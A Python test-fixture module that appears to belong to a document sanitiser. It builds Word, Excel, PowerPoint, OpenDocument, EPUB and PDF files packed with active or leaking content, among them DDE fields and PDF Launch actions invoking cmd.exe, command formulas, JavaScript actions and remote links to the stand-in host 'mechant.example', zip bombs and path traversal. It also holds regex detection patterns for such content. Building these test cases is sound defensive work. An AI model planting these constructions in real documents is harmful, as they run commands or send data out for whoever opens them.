"""Documents that act, call out or tell of their makers, as an attacker or an ordinary program makes them.

`refused` holds what no site may publish, one danger a file; `published` one file for
each format with everything that is taken out: what is left of it is looked through by `found`.
"""

from __future__ import annotations

import functools
import io
import re
import zipfile
from typing import Any

import pypdf
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.equipment.files import archive, photo

MAKER = "Camille Dupont"
HOST = "mechant.example"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_ODF_SPACES = " ".join(
    f'xmlns:{name}="{_ODF}{"drawing" if name == "draw" else name}:1.0"'
    for name in ("office", "text", "draw", "script", "form", "table", "presentation", "meta", "config")
)
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def relations(*items: tuple[str, str, str, str]) -> str:
    """Return a part of relations: identifier, last word of the type, target, mode."""
    lines = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for key, kind, target, mode in items
    )
    return f'<Relationships xmlns="{_RELATIONS}">{lines}</Relationships>'


def types(*overrides: tuple[str, str]) -> str:
    lines = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{lines}</Types>'


def docx(body: str = "", links: str = "", /, **more: Any) -> bytes:
    """Return a text of Word; `more` are its other parts."""
    document = f'<w:document xmlns:w="{_WORD}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>{body}</w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": types(("/word/document.xml", "x")),
            "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml", "")),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": links or relations(),
            **more,
        }
    )


def xlsx(cell: str = "", more_of_the_book: str = "", /, **more: Any) -> bytes:
    return packed(
        {
            "[Content_Types].xml": types(),
            "xl/workbook.xml": f'<workbook xmlns="{_SHEET}" xmlns:r="{OFFICE}">{more_of_the_book}</workbook>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}" xmlns:r="{OFFICE}"><sheetData><row><c>{cell}</c></row></sheetData></worksheet>',
            **more,
        }
    )


def pptx(shape: str = "", links: str = "", /, **more: Any) -> bytes:
    return packed(
        {
            "[Content_Types].xml": types(),
            "ppt/presentation.xml": f'<p:presentation xmlns:p="{_SLIDE}"/>',
            "ppt/slides/slide1.xml": f'<p:sld xmlns:p="{_SLIDE}" xmlns:a="{_DRAWING}" xmlns:r="{OFFICE}">{shape}</p:sld>',
            "ppt/slides/_rels/slide1.xml.rels": links or relations(),
            **more,
        }
    )


def odf(body: str = "", kind: str = "text", /, **more: Any) -> bytes:
    """Return an OpenDocument of a kind among text, spreadsheet and presentation."""
    return packed(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": f'<office:document-content {_ODF_SPACES} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xforms="http://www.w3.org/2002/xforms">{body}</office:document-content>',
            **more,
        }
    )


def epub(body: str = "", /, **more: Any) -> bytes:
    """Return a book of one page."""
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="livre.opf"/></rootfiles></container>',
            "livre.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item href="page.xhtml"/></manifest></package>',
            "page.xhtml": f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>',
            **more,
        }
    )


def packed(parts: dict[str, Any]) -> bytes:
    """Return the parts as an archive, compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as entries:
        for name, data in parts.items():
            entries.writestr(name, data)
    return out.getvalue()


def field(*pieces: str) -> str:
    """Return a field of Word whose instruction stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def zeros(size: int) -> bytes:
    """Return a text of Word whose one page is `size` zeros: a few kilobytes of archive."""
    return docx(**{"word/media/image1.png": bytes(size)})


def lying(size: int) -> bytes:
    """Return the same, whose table of contents tells of 1,000 bytes only."""
    data = bytearray(zeros(size))
    for place in [match.start() for match in re.finditer(b"PK\x01\x02", data)]:
        name = data[place + 46 : place + 46 + int.from_bytes(data[place + 28 : place + 30], "little")]
        if name.endswith(b".png"):
            data[place + 24 : place + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


@functools.cache
def refused() -> dict[str, tuple[str, bytes]]:
    """Return files that act or call out: what it is, its name, its bytes."""
    remote = f"https://{HOST}/x.png"
    office = {
        "vbaProject": ("a.docx", docx(**{"word/vbaProject.bin": "x"})),
        "macro type": ("a.docx", docx(**{"[Content_Types].xml": types(("/word/document.xml", _MACRO_TYPE))})),
        "ActiveX": ("a.docx", docx(**{"word/activeX/activeX1.xml": "<x/>"})),
        "OLE": ("a.docx", docx('<w:object><o:OLEObject r:id="rId9"/></w:object>')),
        "OLE part": ("a.docx", docx(**{"word/embeddings/oleObject1.bin": "\xd0\xcf"})),
        "package": ("a.docx", docx(**{"word/embeddings/autre.xlsx": "PK"})),
        "chunk": ("a.docx", docx('<w:altChunk r:id="rId9"/>')),
        "remote image": ("a.docx", docx("", relations(("rId9", "image", remote, "External")))),
        "remote frame": ("a.docx", docx("", relations(("rId9", "frame", remote, "External")))),
        "VML image": ("a.docx", docx(f'<w:pict><v:shape><v:imagedata src="{remote}"/></v:shape></w:pict>')),
        "DDE": ("a.docx", docx(field("DDE", "AUTO c:\\\\windows\\\\cmd.exe"))),
        "simple DDE": ("a.docx", docx('<w:fldSimple w:instr=" ddeauto x y "/>')),
        "INCLUDEPICTURE": ("a.docx", docx(field(f' INCLUDEPICTURE "{remote}"'))),
        "nested INCLUDETEXT": ("a.docx", docx(field("IF 1=1 ") + field(f'INCLUDETEXT "{remote}"'))),
        "file field": ("a.docx", docx(field('HYPERLINK "file:///C:\\Users"'))),
        "UTF-16": ("a.docx", docx(**{"word/header1.xml": "<a><altChunk/></a>".encode("utf-16")})),
        "entities": ("a.docx", docx(**{"word/header1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
        "macro sheet": ("a.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"})),
        "auto open": ("a.xlsx", xlsx("", '<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>')),
        "external book": ("a.xlsx", xlsx(**{"xl/externalLinks/externalLink1.xml": "<x/>"})),
        "web formula": ("a.xlsx", xlsx(f'<f>_xlfn.WEBSERVICE("https://{HOST}")</f>')),
        "command formula": ("a.xlsx", xlsx("<f>cmd|'/c calc'!A1</f>")),
        "connection": ("a.xlsx", xlsx(**{"xl/connections.xml": "<x/>"})),
        "pivot cache": ("a.xlsx", xlsx(**{"xl/pivotCache/pivotCacheRecords1.xml": f"<x>{MAKER}</x>"})),
        "program": ("a.pptx", pptx('<a:hlinkClick r:id="" action="ppaction://program"/>')),
        "slide macro": ("a.pptx", pptx('<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>')),
        "slide OLE": ("a.pptx", pptx('<p:oleObj r:id="rId9"/>')),
        "remote video": ("a.pptx", pptx("", relations(("rId9", "video", remote, "External")))),
        "video": ("a.pptx", pptx(**{"ppt/media/media1.mp4": "x"})),
        "Basic": ("a.odt", odf(**{"Basic/Standard/Module1.xml": "<x/>"})),
        "Python": ("a.ods", odf("", "spreadsheet", **{"Scripts/python/x.py": "x"})),
        "load event": ("a.odt", odf('<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>')),
        "OpenDocument OLE": ("a.odt", odf('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>')),
        "linked image": ("a.odt", odf(f'<draw:image xlink:href="{remote}"/>')),
        "linked drive": ("a.odt", odf('<draw:image xlink:href="//serveur/x.png"/>')),
        "linked section": ("a.odt", odf(f'<text:section-source xlink:href="{remote}"/>')),
        "DDE of a table": ("a.ods", odf("<office:dde-source/>", "spreadsheet")),
        "DDE formula": ("a.ods", odf('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>', "spreadsheet")),
        "frame": ("a.odt", odf('<draw:floating-frame xlink:href="content.xml"/>')),
        "XForms": ("a.odt", odf("<xforms:model/>")),
        "form target": ("a.odt", odf(f'<form:form xlink:href="https://{HOST}"/>')),
        "script in a link": ("a.odt", odf('<text:a xlink:href="javascript:alert(1)"/>')),
        "slide action": ("a.odp", odf('<presentation:event-listener presentation:action="execute"/>', "presentation")),
        "script in a picture": ("a.odt", odf(**{"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script/></svg>'})),
        "program as picture": ("a.odt", odf(**{"Pictures/a.png": "MZ"})),
        "book script": ("a.epub", epub("<script>alert(1)</script>")),
        "book event": ("a.epub", epub('<p onclick="alert(1)"/>')),
        "book image": ("a.epub", epub(f'<img src="{remote}"/>')),
        "book style": ("a.epub", epub(**{"a.css": f"p {{ background: url({remote}) }}"})),
        "book escape": ("a.epub", epub(f"<style>p {{ background: \\75rl({remote}) }}</style>")),
        "book escape in an attribute": ("a.epub", epub(f'<p style="background: u\\72l({remote})"/>')),
        "book set of images": ("a.epub", epub(**{"a.css": f'p {{ background: image-set("{remote}" 1x) }}'})),
        "book sheet of a stranger": ("a.epub", epub(f'<link rel="stylesheet" href="https://{HOST}/a.css"/>')),
        "book paint": ("a.epub", epub(f'<svg xmlns="http://www.w3.org/2000/svg"><rect filter="url({remote}#a)"/></svg>')),
        "formula on the web": ("a.ods", odf(f"<table:table-cell table:formula=\"of:=['https://{HOST}/x.ods'#$A.A1]\"/>", "spreadsheet")),
        "service formula": ("a.xlsx", xlsx('<f>_xlfn.TRANSLATE(A1,"fr","en")</f>')),
        "image of a button": ("a.odt", odf(f'<form:image-frame form:image-data="{remote}"/>')),
        "book's second image": ("a.epub", epub(f'<img srcset="a.jpg 1x, {remote} 2x"/>')),
        "book file": ("a.epub", epub(**{"a.js": "alert(1)"})),
        "book refresh": ("a.epub", epub(f'<meta http-equiv="refresh" content="0;{remote}"/>')),
        "book form": ("a.epub", epub(f'<form action="https://{HOST}"/>')),
        "ratio": ("a.docx", zeros(20_000_000)),
        "entries": ("a.docx", docx(**{f"word/media/image{number}.png": "" for number in range(4000)})),
        "elements": ("a.docx", docx("<w:p/>" * 1_200_000)),
        "same name twice": ("a.docx", docx(**{"word/Document.xml": "<x/>"})),
        "path": ("a.docx", docx(**{"../word/x.xml": "<x/>"})),
    }  # fmt: skip
    return office | {
        "portfolio": ("a.pdf", pdf(collection=True)),
        "XFA": ("a.pdf", pdf(xfa=True)),
    }


def published() -> dict[str, bytes]:
    """Return, by file name, a file of each format with everything that is taken out of it."""
    notes: dict[str, Any] = {
        "docProps/thumbnail.jpeg": photo(),
        "docProps/core.xml": f'<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{MAKER}</dc:creator></c>',
        "docProps/app.xml": f"<Properties><Company>{MAKER}</Company><HLinks>file:///C:/{MAKER}</HLinks></Properties>",
        "customXml/item1.xml": f"<x>{MAKER}</x>",
    }
    printer = relations(
        ("rId1", "printerSettings", "../printerSettings/printerSettings1.bin", ""),
        ("rId2", "hyperlink", f"file:///C:/{MAKER}/x.xlsx", "External"),
    )
    return {
        "a.docx": docx(
            f'<!-- {MAKER} --><?x {MAKER}?><w:p><w:hyperlink r:id="rId2"><w:r><w:t>un lien</w:t></w:r></w:hyperlink>'
            f'<w:hyperlink r:id="rId4"><w:r><w:t>le site</w:t></w:r></w:hyperlink><w:ins w:author="{MAKER}"/></w:p>',
            relations(
                ("rId1", "attachedTemplate", f"file:///C:/{MAKER}.dotm", "External"),
                ("rId2", "hyperlink", f"file:///C:/{MAKER}.docx", "External"),
                ("rId3", "customXml", "../customXml/item1.xml", ""),
                ("rId4", "hyperlink", "https://cvts.example", "External"),
                ("rId5", "image", "media/image1.jpeg", ""),
            ),
            **notes,
            **{
                "word/media/image1.jpeg": photo(),
                "word/settings.xml": f'<w:settings xmlns:w="{_WORD}"><w:docVars><w:docVar w:val="{MAKER}"/></w:docVars><w:mailMerge>{MAKER}</w:mailMerge></w:settings>',
                "word/comments.xml": f'<w:comments xmlns:w="{_WORD}"><w:comment w:author="{MAKER}"/></w:comments>'.encode(
                    "utf-16"
                ),
            },
        ),
        "a.xlsx": packed(
            {
                "[Content_Types].xml": types(("/xl/printerSettings/printerSettings1.bin", "x")),
                "xl/workbook.xml": f'<workbook xmlns="{_SHEET}"><fileSharing userName="{MAKER}"/></workbook>',
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}" xmlns:r="{OFFICE}"><sheetData/><hyperlinks><hyperlink ref="A1" r:id="rId2"/></hyperlinks><pageSetup r:id="rId1"/></worksheet>',
                "xl/worksheets/_rels/sheet1.xml.rels": printer,
                "xl/printerSettings/printerSettings1.bin": MAKER,
                "xl/revisions/userNames.xml": f"<x>{MAKER}</x>",
                **notes,
            }
        ),
        "a.pptx": pptx(
            f'<p:pic/><a:r><a:rPr><a:hlinkClick r:id="rId2"/></a:rPr><a:t>un lien</a:t></a:r><x userName="{MAKER}"/>',
            relations(
                ("rId2", "hyperlink", f"\\\\serveur\\{MAKER}", "External"),
                ("rId3", "chart", "../charts/chart1.xml", ""),
            ),
            **notes,
            **{
                "ppt/charts/chart1.xml": f'<c:chartSpace xmlns:c="urn:c" xmlns:r="{OFFICE}"><c:externalData r:id="rId1"/></c:chartSpace>',
                "ppt/charts/_rels/chart1.xml.rels": relations(
                    ("rId1", "package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", "")
                ),
                "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": archive({"xl/x.xml": MAKER}),
                "ppt/commentAuthors.xml": f'<p:cmAuthorLst xmlns:p="{_SLIDE}"><p:cmAuthor name="{MAKER}"/></p:cmAuthorLst>',
            },
        ),
        "a.odt": odf(
            f'<!-- {MAKER} --><office:scripts/><text:a xlink:href="../{MAKER}.odt">un lien</text:a><draw:image xlink:href="Pictures/a.jpg"/>',
            **{
                "Pictures/a.jpg": photo(),
                "Thumbnails/thumbnail.png": MAKER,
                "Configurations2/accelerator/current.xml": f"<x>{MAKER}</x>",
                "manifest.rdf": f"<x>{MAKER}</x>",
                "settings.xml": f'<office:document-settings {_ODF_SPACES}><config:config-item config:name="PrinterName">{MAKER}</config:config-item><config:config-item config:name="ColorTableURL">file:///home/{MAKER}</config:config-item></office:document-settings>',
            },
        ),
        "a.epub": epub(
            f'<!-- {MAKER} --><p>Un&nbsp;texte</p><a href="https://cvts.example">x</a><img src="a.jpg"/>',
            **{
                "a.jpg": photo(),
                "iTunesMetadata.plist": MAKER,
                "META-INF/calibre_bookmarks.txt": MAKER,
                "livre.opf": f'<package xmlns="http://www.idpf.org/2007/opf"><metadata><meta name="calibre:user_metadata" content="{MAKER}"/></metadata></package>',
            },
        ),
        "a.pdf": pdf(),
    }


def _object(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def _stream(data: bytes, **entries: Any) -> StreamObject:
    made = StreamObject()
    made.set_data(data)
    made.update(_object(**entries))
    return made


def pdf(*, collection: bool = False, xfa: bool = False) -> bytes:
    """Return a PDF with every action and every file that we know of."""
    name, text, number = NameObject, TextStringObject, NumberObject
    writer = pypdf.PdfWriter()
    for _ in range(2):
        writer.add_blank_page(200, 200)
    link = f"https://{HOST}"
    code = _object(S=name("/JavaScript"), JS=text(f"app.launchURL('{link}')"))
    file = _object(
        Type=name("/Filespec"), F=text(MAKER), EF=_object(F=writer._add_object(_stream(MAKER.encode())))
    )
    actions = [
        code,
        _object(S=name("/Launch"), F=text("cmd.exe")),
        _object(S=name("/SubmitForm"), F=text(link)),
        _object(S=name("/ImportData"), F=text(MAKER)),
        _object(S=name("/GoToR"), F=text(MAKER)),
        _object(S=name("/GoToE"), F=text(MAKER)),
        _object(S=name("/URI"), URI=text(f"file:///C:/{MAKER}")),
        _object(S=name("/URI"), URI=text("javascript:alert(1)")),
        _object(S=name("/Rendition"), R=_object(S=name("/MR"), C=_object(S=name("/MCD"), D=file))),
        _object(S=name("/GoTo"), D=ArrayObject([number(0)]), Next=code),
        _object(S=name("/URI"), URI=text("https://cvts.example")),
    ]
    rectangle = ArrayObject([number(value) for value in (0, 0, 9, 9)])
    notes = [_object(Subtype=name("/Link"), Rect=rectangle, A=action) for action in actions]
    notes += [
        _object(Subtype=name(f"/{kind}"), Rect=rectangle, FS=file, Sound=file, RichMediaContent=file)
        for kind in ("FileAttachment", "Screen", "Movie", "Sound", "RichMedia", "3D")
    ]
    notes.append(_object(Subtype=name("/Text"), Rect=rectangle, T=text(MAKER), AA=_object(E=code)))
    kept = [writer._add_object(note) for note in notes]
    page, root = writer.pages[0], writer.root_object
    page[name("/Annots")] = ArrayObject(kept)
    page[name("/AA")] = _object(O=code)
    page[name("/Metadata")] = writer._add_object(_stream(MAKER.encode()))
    image = _stream(b"", Subtype=name("/Image"), Filter=name("/DCTDecode"))
    image._data = photo()
    external = _stream(b"", F=text(link), FFilter=name("/FlateDecode"))
    page[name("/Resources")] = _object(
        XObject=_object(I=writer._add_object(image), E=writer._add_object(external))
    )
    # a tagged document refers to its annotations again
    root[name("/StructTreeRoot")] = _object(K=ArrayObject([_object(Obj=note) for note in kept]))
    root[name("/OpenAction")], root[name("/AA")] = code, _object(WC=code)
    root[name("/URI")] = _object(Base=text(link))
    root[name("/Names")] = _object(
        JavaScript=_object(Names=ArrayObject([text("x"), code])),
        EmbeddedFiles=_object(Names=ArrayObject([text("x"), file])),
        Renditions=_object(Names=ArrayObject([text("x"), actions[8]])),
    )
    writer.add_outline_item(title="Un", page_number=0)
    writer.add_outline_item(title="Deux", page_number=1)
    if collection:
        root[name("/Collection")] = _object()
    form = (
        _object(Fields=ArrayObject(), XFA=_stream(MAKER.encode())) if xfa else _object(Fields=ArrayObject())
    )
    root[name("/AcroForm")] = form
    writer.add_metadata({"/Author": MAKER})
    out = io.BytesIO()
    writer.write(out)
    first = out.getvalue()
    revised = pypdf.PdfWriter(io.BytesIO(first), incremental=True)  # the earlier text is still in there
    revised.pages[0].merge_page(pypdf.PageObject.create_blank_page(width=200, height=200))
    out = io.BytesIO()
    revised.write(out)
    return out.getvalue()


FORBIDDEN = re.compile(
    rf"{MAKER}|{HOST}|Canon|/JavaScript|/JS\b|/Launch|/SubmitForm|/ImportData|/GoToR|/GoToE|/Rendition|/RichMedia|/XFA"
    r"|/EmbeddedFile|/EF\b|/AA\b|/OpenAction|/PieceInfo|javascript:|file:|vbaProject|oleObject|macroEnabled"
    r"|event-listener|Target=\"(?!https://cvts)[^\"]*\" TargetMode|printerSettings\d|DDEAUTO|<!--|<\?x |<script|\son\w+="
)
"""What no published file may hold, in its uncompressed parts."""


ACTING = re.compile(
    r"'/S': '/(?:JavaScript|Launch|SubmitForm|ImportData|GoToR|GoToE|Rendition)'|'/(?:XFA|AA|OpenAction|EF)':"
    r"|vbaProject|<[\w:]*event-listener|TargetMode=\"External\" Target=\"(?!https?:|mailto:)|<script|<foreignObject"
    r"|<!DOCTYPE (?!html>)|<!ENTITY|<[^<>]*\son\w+=\"",
    re.IGNORECASE,
)
"""What no published file may hold, even if it was made from a damaged one."""


def found(everything: str, what: re.Pattern[str] = FORBIDDEN) -> list[str]:
    """Return what a published file still holds of what it may not."""
    return sorted({match[0] for match in what.finditer(everything)})
